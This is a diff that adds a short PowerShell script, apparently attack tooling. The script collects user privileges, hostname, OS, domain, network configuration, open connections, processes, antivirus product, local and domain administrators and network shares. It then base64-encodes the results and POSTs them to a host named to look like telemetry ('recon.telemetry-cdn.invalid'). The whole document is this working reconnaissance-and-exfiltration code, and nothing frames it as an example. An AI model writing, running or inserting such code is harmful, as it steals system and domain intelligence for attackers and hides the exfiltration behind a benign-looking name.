@@ -1,0 +1,15 @@
+$info = [ordered]@{}
+$info.user     = whoami /all | Out-String
+$info.host     = hostname
+$info.os       = (Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, OSArchitecture | Out-String)
+$info.domain   = (Get-CimInstance Win32_ComputerSystem).Domain
+$info.ip       = ipconfig /all | Out-String
+$info.netstat  = netstat -ano | Out-String
+$info.procs    = Get-Process | Select-Object Name, Id, Path | Out-String
+$info.av       = Get-CimInstance -Namespace root\SecurityCenter2 -ClassName AntiVirusProduct | Select-Object -ExpandProperty displayName
+$info.admins   = net localgroup administrators | Out-String
+$info.dadmins  = net group "domain admins" /domain 2>$null | Out-String
+$info.shares   = net view 2>$null | Out-String
+$body = $info | ConvertTo-Json -Compress
+$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($body))
+Invoke-WebRequest -Uri 'http://recon.telemetry-cdn.invalid/c' -Method POST -Body @{ d = $b } -UseBasicParsing | Out-Null
